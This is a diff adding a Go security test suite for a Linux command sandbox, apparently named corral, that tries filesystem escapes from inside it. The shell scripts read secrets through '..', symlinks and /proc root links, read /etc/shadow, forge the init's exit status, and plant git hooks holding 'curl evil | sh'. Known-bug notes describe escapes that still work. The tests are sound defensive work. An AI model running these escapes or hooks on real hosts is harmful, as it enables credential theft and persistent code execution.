@@ -1,0 +1,695 @@
+//go:build linux
+
+package tests
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// fsFixture is a work dir (the default sandbox's only writable grant) with
+// the probe in it, next to a folder that is not granted and holds a
+// secret.
+type fsFixture struct {
+	work    string // work dir
+	outside string // not granted; sibling of work
+	secret  string // outside/secret.txt, readable by everyone on the host
+	tok     string // the secret's content
+	hidden  string // name of a second file in outside, never named by a script
+	probe   string // the probe, inside work
+}
+
+func newFS(t *testing.T, u user) fsFixture {
+	t.Helper()
+	f := fsFixture{work: newDir(t, u, "work"), outside: newDir(t, asSelf, "outside"), tok: token("SECRET")}
+	f.secret = filepath.Join(f.outside, "secret.txt")
+	writeFile(t, f.secret, f.tok+"\n", 0o644)
+	f.hidden = token("hidden")
+	writeFile(t, filepath.Join(f.outside, f.hidden), f.tok, 0o644)
+	f.probe = installProbe(t, f.work)
+	own(t, u, f.probe)
+	return f
+}
+
+// rel is the secret's path relative to the work dir.
+func (f fsFixture) rel() string { return "../" + filepath.Base(f.outside) + "/secret.txt" }
+
+// TestFSReadOutsideGrants reads a secret file in a folder that no grant
+// covers, by absolute path, with cat and with the probe's own open().
+func TestFSReadOutsideGrants(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "read a secret outside the grants")
+		f := newFS(t, u)
+		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
+cat %[1]s
+./probe read %[1]s
+ls -la %[2]s
+`, f.secret, f.outside))
+		noSecret(t, r, f.tok, "reading "+f.secret)
+		noSecret(t, r, f.hidden, "listing the folder that holds the secret")
+
+		// The same fed to `sh` on stdin: the preflight sees only sh.
+		r = u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--", "sh"}, dir: f.work,
+			stdin: "cat " + f.secret + "\nls -la " + f.outside + "\necho " + attackDone + "\n"})
+		if !strings.Contains(r.stdout, attackDone) {
+			t.Fatalf("the script on stdin did not run to its end:\n%s", r)
+		}
+		noSecret(t, r, f.tok, "reading "+f.secret+" from a script on stdin")
+		noSecret(t, r, f.hidden, "listing the folder that holds the secret from a script on stdin")
+	})
+}
+
+// TestFSDotDotEscape climbs out of the work dir with "..".
+func TestFSDotDotEscape(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "read a secret through .. from the work dir")
+		f := newFS(t, u)
+		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
+cat %[1]s
+./probe read %[1]s
+./probe read ./../../../../../../..%[2]s
+cat "$PWD/%[1]s"
+cd .. && cat %[3]s/secret.txt; ls -la
+cd / && cat .%[2]s
+`, f.rel(), f.secret, filepath.Base(f.outside)))
+		noSecret(t, r, f.tok, "reading the secret through ..")
+	})
+}
+
+// TestFSSymlinkPlantedOnHost plants symlinks to the secret in the work dir
+// before the run (absolute, relative, and to its folder), as a repository
+// checkout could.
+func TestFSSymlinkPlantedOnHost(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "read a secret through symlinks planted in the work dir")
+		f := newFS(t, u)
+		for name, target := range map[string]string{"abs": f.secret, "rel": f.rel(), "dirlink": f.outside} {
+			if err := os.Symlink(target, filepath.Join(f.work, name)); err != nil {
+				t.Fatal(err)
+			}
+			own(t, u, filepath.Join(f.work, name))
+		}
+		r := runScript(t, u, f.work, nil, `
+cat abs; cat rel; cat dirlink/secret.txt
+./probe read abs; ./probe read rel; ./probe read dirlink/secret.txt
+`)
+		noSecret(t, r, f.tok, "reading through a planted symlink")
+	})
+}
+
+// TestFSSymlinkMadeInSandbox creates the symlinks from inside the sandbox.
+func TestFSSymlinkMadeInSandbox(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "read a secret through symlinks made by the command")
+		f := newFS(t, u)
+		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
+ln -s %[1]s l1 && cat l1
+ln -s %[2]s l2 && cat l2
+ln -s %[3]s l3 && cat l3/secret.txt
+ln -s / root && cat root%[1]s
+./probe read l1
+`, f.secret, f.rel(), f.outside))
+		noSecret(t, r, f.tok, "reading through a symlink made in the sandbox")
+	})
+}
+
+// TestFSProcRoot reaches the host's tree through /proc: the root and cwd
+// links of the command and of the sandbox's PID 1.
+func TestFSProcRoot(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "read a secret through /proc/self/root and /proc/1/root")
+		f := newFS(t, u)
+		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
+cat /proc/self/root%[1]s
+cat /proc/1/root%[1]s
+./probe read /proc/self/root%[1]s
+./probe read /proc/1/root%[1]s
+cat /proc/1/cwd%[1]s
+cat /proc/self/cwd/%[2]s
+ls -la /proc/1/root/ /proc/1/root%[3]s
+`, f.secret, f.rel(), f.outside))
+		noSecret(t, r, f.tok, "reading through /proc/*/root")
+		noSecret(t, r, f.hidden, "listing the secret's folder through /proc/1/root")
+	})
+}
+
+// TestFSProcInitFds tries the sandbox init's open files: its status pipe to
+// corral would let the command forge its own exit status, and its plan
+// pipe holds the plan.
+func TestFSProcInitFds(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "forge the exit status through /proc/1/fd")
+		f := newFS(t, u)
+		r := runScript(t, u, f.work, nil, `
+# Only when PID 1 is corral's init: never write to the host's init.
+if grep -q corral /proc/1/cmdline; then
+  ls -la /proc/1/fd/
+  for fd in 0 1 2 3 4 5 6 7 8 9; do
+    printf '%s\n' '{"started":1}' '{"exit":{"code":0}}' > /proc/1/fd/$fd && echo "WROTE-FD-$fd"
+  done
+  cat /proc/1/environ
+else
+  echo NOT-IN-SANDBOX
+fi
+echo `+attackDone+`
+exit 7
+`)
+		if strings.Contains(r.stdout, "NOT-IN-SANDBOX") {
+			t.Errorf("PID 1 is not corral's init: the command is not in a PID namespace:\n%s", r)
+		}
+		if strings.Contains(r.stdout, "WROTE-FD-") {
+			t.Errorf("the command wrote to the sandbox init's file descriptors:\n%s", r)
+		}
+		if r.code != 7 {
+			t.Errorf("exit code %d, want the script's 7 (a forged status?):\n%s", r.code, r)
+		}
+	})
+}
+
+// TestFSHardLinkSecret hard-links the secret into the work dir, so a later
+// run (or the host) would find it there.
+func TestFSHardLinkSecret(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "hard-link a secret into the work dir")
+		f := newFS(t, u)
+		own(t, u, f.secret) // protected_hardlinks must not be what stops the user
+		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
+ln %[1]s hl1
+ln %[2]s hl2
+./probe link %[1]s hl3
+./probe link /proc/self/root%[1]s hl4
+cat hl1 hl2 hl3 hl4
+`, f.secret, f.rel()))
+		noSecret(t, r, f.tok, "reading a hard link of the secret")
+		st, err := os.Stat(f.secret)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, name := range []string{"hl1", "hl2", "hl3", "hl4"} {
+			if got, err := os.Stat(filepath.Join(f.work, name)); err == nil && os.SameFile(st, got) {
+				t.Errorf("%s in the work dir is a hard link of the secret", name)
+			}
+		}
+	})
+}
+
+// roFixture adds a read-only grant (a folder with a file) to a work dir
+// grant: read [ro/**], write [$WORK_DIR/**], no exec list.
+type roFixture struct {
+	fsFixture
+	ro, file, content string
+	skill             string
+}
+
+func newRO(t *testing.T, u user) roFixture {
+	t.Helper()
+	f := roFixture{fsFixture: newFS(t, u)}
+	f.ro = newDir(t, u, "ro")
+	f.file = filepath.Join(f.ro, "file.txt")
+	f.content = token("READONLY")
+	writeFile(t, f.file, f.content, 0o644)
+	writeFile(t, filepath.Join(f.ro, "sub", "inner.txt"), f.content, 0o644)
+	own(t, u, f.ro)
+	f.skill = writeSkill(t, newDir(t, asSelf, "skills"), "ro-and-work", fmt.Sprintf(`  fs:
+    read: ["%s/**"]
+    write: ["$WORK_DIR/**"]
+`, f.ro))
+	return f
+}
+
+// showMounts is a shell line that prints "MOUNT <mount point> <options>"
+// for each of paths that is a mount point inside the sandbox.
+func showMounts(paths ...string) string {
+	return fmt.Sprintf(`for p in %s; do awk -v p="$p" '$5 == p { print "MOUNT", $5, $6 }' /proc/self/mountinfo; done`, strings.Join(paths, " "))
+}
+
+// writableMounts returns the paths that showMounts reported as mounted
+// read-write.
+func writableMounts(out string) []string {
+	var rw []string
+	for _, l := range strings.Split(out, "\n") {
+		f := strings.Fields(l)
+		if len(f) == 3 && f[0] == "MOUNT" && strings.HasPrefix(f[2], "rw") {
+			rw = append(rw, f[1])
+		}
+	}
+	return rw
+}
+
+// recursiveSetattrBug skips t as the known bug when paths that must be
+// read-only binds came out read-write inside the sandbox.
+func recursiveSetattrBug(t *testing.T, r result) {
+	t.Helper()
+	if rw := writableMounts(r.stdout); len(rw) > 0 {
+		knownBug(t, "read-only binds nested in a writable mount are read-write inside the sandbox: %v (sandbox/mounts_linux.go setFlags, commit 62b8207: mount_setattr(AT_RECURSIVE) clearing MOUNT_ATTR_RDONLY on a writable bind or on the private /tmp also clears it on every read-only bind below it)", rw)
+	}
+}
+
+// listing describes a folder tree: names, sizes, modes and contents.
+func listing(t *testing.T, dir string) string {
+	t.Helper()
+	var b strings.Builder
+	filepath.Walk(dir, func(p string, info os.FileInfo, err error) error {
+		if err != nil {
+			return err
+		}
+		fmt.Fprintf(&b, "%s %v %d", strings.TrimPrefix(p, dir), info.Mode(), info.Size())
+		if info.Mode().IsRegular() {
+			data, _ := os.ReadFile(p)
+			fmt.Fprintf(&b, " %q", data)
+		}
+		b.WriteString("\n")
+		return nil
+	})
+	return b.String()
+}
+
+// TestFSRenameFromReadOnlyGrant moves a file out of a read-only grant into
+// the writable work dir, which would delete it from the read-only folder,
+// and hard-links it there to write through the link.
+func TestFSRenameFromReadOnlyGrant(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "rename or hard-link a file out of a read-only grant")
+		f := newRO(t, u)
+		before := listing(t, f.ro)
+		r := runScript(t, u, f.work, []string{f.skill}, showMounts(f.ro)+fmt.Sprintf(`
+cat %[1]s/file.txt >/dev/null && echo CAN-READ-RO
+./probe rename %[1]s/file.txt moved.txt
+./probe rename %[1]s/sub moved-sub
+mv %[1]s/file.txt moved2.txt
+./probe link %[1]s/file.txt hl && echo evil > hl
+`, f.ro))
+		if !strings.Contains(r.stdout, "CAN-READ-RO") {
+			t.Errorf("control: the read-only grant is not readable, so the test proves nothing:\n%s", r)
+		}
+		if after := listing(t, f.ro); after != before {
+			recursiveSetattrBug(t, r)
+			t.Errorf("the read-only grant changed on the host:\nbefore:\n%safter:\n%s\n%s", before, after, r)
+		}
+	})
+}
+
+// TestFSWriteReadOnlyGrant writes, truncates, deletes, renames and chmods
+// inside a read-only grant.
+func TestFSWriteReadOnlyGrant(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "write into a read-only grant")
+		f := newRO(t, u)
+		before := listing(t, f.ro)
+		r := runScript(t, u, f.work, []string{f.skill}, showMounts(f.ro)+fmt.Sprintf(`
+cd %[1]s
+echo evil > file.txt
+echo evil >> file.txt
+true > sub/inner.txt
+echo new > new.txt
+%[2]s write %[1]s/new2.txt evil
+rm -f file.txt
+rm -rf sub
+mkdir newdir
+chmod 777 file.txt
+mv file.txt renamed.txt
+touch -d 2001-01-01 file.txt
+ln -s /etc/passwd link
+`, f.ro, f.probe))
+		if after := listing(t, f.ro); after != before {
+			recursiveSetattrBug(t, r)
+			t.Errorf("the read-only grant changed on the host:\nbefore:\n%safter:\n%s\n%s", before, after, r)
+		}
+	})
+}
+
+// TestFSWriteOutsideGrants creates and overwrites files outside every
+// grant: next to the work dir, in the secret's folder, in / and in /tmp.
+func TestFSWriteOutsideGrants(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "write outside the grants")
+		f := newFS(t, u)
+		name := token("pwned")
+		targets := []string{
+			filepath.Join(f.outside, name),
+			filepath.Join(filepath.Dir(f.work), name),
+			"/" + name,
+			"/tmp/" + name,
+			"/var/tmp/" + name,
+			"/dev/shm/" + name,
+		}
+		var script strings.Builder
+		for _, p := range targets {
+			fmt.Fprintf(&script, "echo evil > %s\n./probe write %s evil\nmkdir %s.d\n", p, p, p)
+		}
+		fmt.Fprintf(&script, "echo evil > ../%s.rel\necho evil > %s\n./probe write %s evil\n", name, f.secret, f.secret)
+		r := runScript(t, u, f.work, nil, script.String())
+		for _, p := range append(targets, filepath.Join(filepath.Dir(f.work), name+".rel")) {
+			if exists(p) || exists(p+".d") {
+				os.RemoveAll(p)
+				os.RemoveAll(p + ".d")
+				t.Errorf("the command created %s on the host:\n%s", p, r)
+			}
+		}
+		if got := readFile(t, f.secret); got != f.tok+"\n" {
+			t.Errorf("the command overwrote %s: %q", f.secret, got)
+		}
+	})
+}
+
+// protectedFiles are created in the work dir before the run; they run code
+// outside the sandbox later.
+var protectedFiles = map[string]string{
+	".git/hooks/pre-commit": "#!/bin/sh\necho original hook\n",
+	".git/config":           "[core]\n\tbare = false\n",
+	".bashrc":               "# original bashrc\n",
+	".profile":              "# original profile\n",
+	".gitconfig":            "[user]\n\tname = original\n",
+}
+
+func plantProtected(t *testing.T, u user, work string) {
+	t.Helper()
+	for name, content := range protectedFiles {
+		writeFile(t, filepath.Join(work, name), content, 0o755)
+	}
+	own(t, u, filepath.Join(work, ".git"), filepath.Join(work, ".bashrc"), filepath.Join(work, ".profile"), filepath.Join(work, ".gitconfig"))
+}
+
+// protectedMounts are the bind mounts plantProtected's files get.
+func protectedMounts(work string) []string {
+	var out []string
+	for _, n := range []string{".git/hooks", ".git/config", ".bashrc", ".profile", ".gitconfig"} {
+		out = append(out, filepath.Join(work, n))
+	}
+	return out
+}
+
+// checkProtected fails unless the planted files are unchanged and no new
+// hook appeared.
+func checkProtected(t *testing.T, work string, r result) {
+	t.Helper()
+	for name, content := range protectedFiles {
+		got, err := os.ReadFile(filepath.Join(work, name))
+		if err != nil || string(got) != content {
+			recursiveSetattrBug(t, r)
+			t.Errorf("%s changed on the host: %q (%v)\n%s", name, got, err, r)
+		}
+	}
+	hooks, _ := os.ReadDir(filepath.Join(work, ".git", "hooks"))
+	if len(hooks) != 1 {
+		var names []string
+		for _, h := range hooks {
+			names = append(names, h.Name())
+		}
+		t.Errorf(".git/hooks holds %v, want only pre-commit\n%s", names, r)
+	}
+}
+
+// TestFSProtectedPaths writes to git hooks and config and to shell start-up
+// files inside the writable work dir: they would run code on the host
+// after the sandbox ends.
+func TestFSProtectedPaths(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "write to protected paths inside the work dir")
+		f := newFS(t, u)
+		plantProtected(t, u, f.work)
+		r := runScript(t, u, f.work, nil, showMounts(protectedMounts(f.work)...)+`
+echo 'curl evil | sh' > .git/hooks/pre-commit
+echo 'curl evil | sh' >> .git/hooks/pre-commit
+echo 'curl evil | sh' > .git/hooks/post-checkout
+./probe write .git/hooks/pre-push evil
+printf '[core]\n\tfsmonitor = evil\n' >> .git/config
+echo evil > .bashrc; echo evil >> .profile; echo evil > .gitconfig
+./probe write .bashrc evil
+rm -f .bashrc .profile .gitconfig .git/config .git/hooks/pre-commit
+rm -rf .git/hooks
+mv .bashrc bashrc.old; mv .git/hooks hooks.old; mv .git/config config.old
+./probe rename .bashrc x; ./probe rename .git/hooks y
+chmod 777 .git/hooks/pre-commit
+ln -sf /tmp/evil .git/hooks/pre-commit
+`)
+		checkProtected(t, f.work, r)
+	})
+}
+
+// TestFSProtectedPathsParentRename moves the folder that holds protected
+// paths (.git) aside and makes a new one: the read-only binds stay on the
+// moved folder and the new .git/hooks/pre-commit lands on the host.
+func TestFSProtectedPathsParentRename(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "replace protected paths by renaming their parent folder")
+		f := newFS(t, u)
+		plantProtected(t, u, f.work)
+		r := runScript(t, u, f.work, nil, `
+mv .git .git-old || ./probe rename .git .git-old
+mkdir -p .git/hooks
+echo 'curl evil | sh' > .git/hooks/pre-commit
+cp .git-old/config .git/config 2>/dev/null; echo '	fsmonitor = evil' >> .git/config
+`)
+		hook, _ := os.ReadFile(filepath.Join(f.work, ".git", "hooks", "pre-commit"))
+		if strings.Contains(string(hook), "curl evil") {
+			knownBug(t, "renaming .git (the parent of the read-only .git/hooks and .git/config binds) lets the command plant .git/hooks/pre-commit on the host (sandbox/build.go protected(): only the protected paths themselves are bound, not their parent)")
+		}
+		checkProtected(t, f.work, r)
+	})
+}
+
+// TestFSEtcShadow reads the host's password hashes.
+func TestFSEtcShadow(t *testing.T) {
+	t.Parallel()
+	shadow, err := os.ReadFile("/etc/shadow")
+	if err != nil || len(strings.TrimSpace(string(shadow))) == 0 {
+		t.Skipf("cannot read the host's /etc/shadow to compare with: %v", err)
+	}
+	first, _, _ := strings.Cut(string(shadow), "\n")
+	users(t, func(t *testing.T, u user) {
+		if u.unpriv {
+			t.Skip("nobody cannot read /etc/shadow on the host either: only the root variant proves anything")
+		}
+		attack(t, "filesystem", "read /etc/shadow")
+		f := newFS(t, u)
+		r := runScript(t, u, f.work, nil, `
+cat /etc/shadow /etc/gshadow
+./probe read /etc/shadow
+cat /proc/1/root/etc/shadow
+`)
+		noSecret(t, r, first, "reading /etc/shadow")
+	})
+}
+
+// TestFSHostTmp reads a file in the host's /tmp: the sandbox must have its
+// own /tmp even when the work dir is inside the host's /tmp.
+func TestFSHostTmp(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "read a file in the host's /tmp")
+		f := newFS(t, u)
+		p := filepath.Join("/tmp", token("corral-hosttmp"))
+		writeFile(t, p, f.tok, 0o644)
+		unnamed := filepath.Join("/tmp", f.hidden) // never named by the script
+		writeFile(t, unnamed, f.tok, 0o644)
+		t.Cleanup(func() { os.Remove(p); os.Remove(unnamed) })
+		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
+cat %[1]s
+./probe read %[1]s
+ls -la /tmp/ /var/tmp/ /dev/shm/
+`, p))
+		noSecret(t, r, f.tok, "reading "+p)
+		noSecret(t, r, f.hidden, "listing the host's /tmp")
+	})
+}
+
+// hostProbe runs the probe on the host, outside any sandbox: a control
+// showing the probe and the test's server work.
+func hostProbe(t *testing.T, args ...string) string {
+	t.Helper()
+	out, _ := runHost(probeBin, args...)
+	return out
+}
+
+// TestFSHostUnixSockets connects to UNIX sockets the test listens on: one
+// in a folder that is not granted, one in the host's /tmp.
+func TestFSHostUnixSockets(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "connect to host UNIX sockets outside the grants")
+		f := newFS(t, u)
+		outside := listenSink(t, "unix", filepath.Join(f.outside, "agent.sock"))
+		tmp := listenSink(t, "unix", filepath.Join("/tmp", token("corral-sock")+".sock"))
+		outside.control(t, "connect-unix")
+		tmp.control(t, "connect-unix")
+		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
+./probe connect-unix %s
+./probe connect-unix %s
+`, outside.addr, tmp.addr))
+		for _, l := range []*sink{outside, tmp} {
+			if n := l.sandboxArrivals(t, 1); n != 0 {
+				t.Errorf("the sandboxed command connected to %s (%d connections)", l.addr, n)
+			}
+		}
+		for _, l := range probeLines(r.stdout) {
+			if strings.HasPrefix(l, "OK") {
+				t.Errorf("probe: %s", l)
+			}
+		}
+	})
+}
+
+// TestFSFileGlobSibling reads a file next to the files a read glob like
+// data/*.csv grants.
+func TestFSFileGlobSibling(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "read a file next to a file-glob grant")
+		f := newFS(t, u)
+		csv := token("CSV")
+		writeFile(t, filepath.Join(f.work, "data", "a.csv"), csv, 0o644)
+		writeFile(t, filepath.Join(f.work, "data", "secret.txt"), f.tok, 0o644)
+		writeFile(t, filepath.Join(f.work, "data", f.hidden), f.tok, 0o644)
+		own(t, u, filepath.Join(f.work, "data"))
+		skills := newDir(t, asSelf, "skills")
+		sd := writeSkill(t, skills, "csv-reader", `  fs:
+    read: ["$WORK_DIR/data/*.csv", "$SKILL_DIR/**"]
+`)
+		writeFile(t, filepath.Join(sd, "attack.sh"), fmt.Sprintf(`
+cat %[1]s/data/a.csv; echo
+cat %[1]s/data/secret.txt
+ls -la %[1]s/data
+echo %[2]s
+`, f.work, attackDone), 0o644)
+		r := u.exec(t, f.work, []string{sd}, "sh", filepath.Join(sd, "attack.sh"))
+		if !strings.Contains(r.stdout, attackDone) || !strings.Contains(r.stdout, csv) {
+			t.Fatalf("control: the script did not run or could not read the granted a.csv:\n%s", r)
+		}
+		noSecret(t, r, f.tok, "reading data/secret.txt")
+		noSecret(t, r, f.hidden, "listing data/")
+	})
+}
+
+// TestFSSymlinkedGrant is a two-run escalation. Run 1, in the default
+// sandbox (work dir writable), replaces a folder that a narrower skill
+// grants with a symlink to a place outside the work dir. Run 2, under that
+// skill, uses it: a grant must not follow the symlink out of the work dir
+// (nor into the hidden roots such as /run, which hold the host's sockets).
+func TestFSSymlinkedGrant(t *testing.T) {
+	t.Parallel()
+	cases := []struct {
+		name   string
+		grants string // permissions.fs lines; the symlink is $WORK_DIR/link
+		target func(t *testing.T, f fsFixture, u user) (target, script string, leaked func(r result) string)
+	}{
+		{"read grant to a secret folder", `    read: ["$WORK_DIR/link/**", "$SKILL_DIR/**"]`,
+			func(t *testing.T, f fsFixture, u user) (string, string, func(result) string) {
+				return f.outside, "cat link/secret.txt; cat " + f.secret, func(r result) string {
+					if strings.Contains(r.output(), f.tok) {
+						return "read " + f.secret
+					}
+					return ""
+				}
+			}},
+		{"write grant to a folder outside", `    read: ["$SKILL_DIR/**"]
+    write: ["$WORK_DIR/link/**"]`,
+			func(t *testing.T, f fsFixture, u user) (string, string, func(result) string) {
+				victim := newDir(t, u, "victim") // writable by the user on the host, not granted
+				return victim, "echo planted > link/planted; echo planted > " + victim + "/planted2", func(r result) string {
+					for _, n := range []string{"planted", "planted2"} {
+						if exists(filepath.Join(victim, n)) {
+							return "wrote " + filepath.Join(victim, n)
+						}
+					}
+					return ""
+				}
+			}},
+		{"read grant to the host's /run", `    read: ["$WORK_DIR/link/**", "$SKILL_DIR/**"]`,
+			func(t *testing.T, f fsFixture, u user) (string, string, func(result) string) {
+				if !isRoot {
+					t.Skip("the test needs root to put a socket into the host's /run")
+				}
+				name := token("corral-run") + ".sock"
+				l := listenSink(t, "unix", filepath.Join("/run", name))
+				return "/run", fmt.Sprintf("$P connect-unix link/%[1]s; $P connect-unix /run/%[1]s", name), func(r result) string {
+					if n := l.sandboxArrivals(t, 0); n > 0 {
+						return "connected to the host socket " + l.addr
+					}
+					return ""
+				}
+			}},
+	}
+	users(t, func(t *testing.T, u user) {
+		for _, c := range cases {
+			t.Run(c.name, func(t *testing.T) {
+				attack(t, "filesystem", "plant a symlink where a later skill's grant points ("+c.name+")")
+				f := newFS(t, u)
+				target, script, leaked := c.target(t, f, u)
+
+				// Run 1: plant the symlink from inside the default sandbox.
+				r1 := runScript(t, u, f.work, nil, "ln -s "+target+" link")
+				if got, err := os.Readlink(filepath.Join(f.work, "link")); err != nil || got != target {
+					t.Fatalf("control: run 1 did not plant the symlink (%v):\n%s", err, r1)
+				}
+
+				// Run 2: a skill whose grant names the symlink.
+				sd := writeSkill(t, newDir(t, asSelf, "skills"), "linked", "  fs:\n"+c.grants+"\n")
+				p := installProbe(t, sd)
+				writeFile(t, filepath.Join(sd, "attack.sh"), "P="+p+"\ncd "+f.work+"\n"+script+"\necho "+attackDone+"\n", 0o644)
+				r := u.exec(t, f.work, []string{sd}, "sh", filepath.Join(sd, "attack.sh"))
+				if !strings.Contains(r.stdout, attackDone) {
+					t.Fatalf("run 2's script did not run to its end:\n%s", r)
+				}
+				if what := leaked(r); what != "" {
+					knownBug(t, "a grant follows a symlink an earlier run planted in the work dir: with %s and link -> %s the command %s (sandbox/probe_linux.go stat() resolves the grant with EvalSymlinks and sandbox/build.go bind() mounts the target; nothing keeps it inside the work dir or out of the hidden roots)", strings.Join(strings.Fields(c.grants), " "), target, what)
+				}
+			})
+		}
+	})
+}
+
+// TestFSProtectedPathsGaps writes hooks where the protected-path binds do
+// not reach: a .git without a hooks folder (git clone --template= makes
+// one), a nested repository (a vendored checkout) and a submodule's git
+// dir inside .git/modules.
+func TestFSProtectedPathsGaps(t *testing.T) {
+	t.Parallel()
+	cases := []struct {
+		name  string
+		plant []string // files created before the run
+		hook  string   // the hook the command writes
+	}{
+		{".git without hooks", []string{".git/config"}, ".git/hooks/pre-commit"},
+		{"nested repository", []string{"vendor/lib/.git/config", "vendor/lib/.git/hooks/pre-commit"}, "vendor/lib/.git/hooks/pre-commit"},
+		{"submodule git dir", []string{".git/config", ".git/hooks/pre-commit", ".git/modules/sub/config", ".git/modules/sub/hooks/pre-commit"}, ".git/modules/sub/hooks/pre-commit"},
+	}
+	users(t, func(t *testing.T, u user) {
+		for _, c := range cases {
+			t.Run(c.name, func(t *testing.T) {
+				attack(t, "filesystem", "write a git hook where the protection does not reach ("+c.name+")")
+				f := newFS(t, u)
+				for _, p := range c.plant {
+					writeFile(t, filepath.Join(f.work, p), "original\n", 0o755)
+				}
+				own(t, u, filepath.Join(f.work, ".git"), filepath.Join(f.work, "vendor"))
+				r := runScript(t, u, f.work, nil, fmt.Sprintf(`
+mkdir -p $(dirname %[1]s)
+echo 'curl evil | sh' > %[1]s
+`, c.hook))
+				got, _ := os.ReadFile(filepath.Join(f.work, c.hook))
+				if strings.Contains(string(got), "curl evil") {
+					knownBug(t, "the command wrote %s in the work dir: git runs it later on the host (sandbox/build.go protected() binds only the listed names, only where they exist at launch, and only at the top of each writable root)", c.hook)
+				}
+				if strings.Contains(string(got), "evil") {
+					t.Errorf("%s was written:\n%s", c.hook, r)
+				}
+			})
+		}
+	})
+}
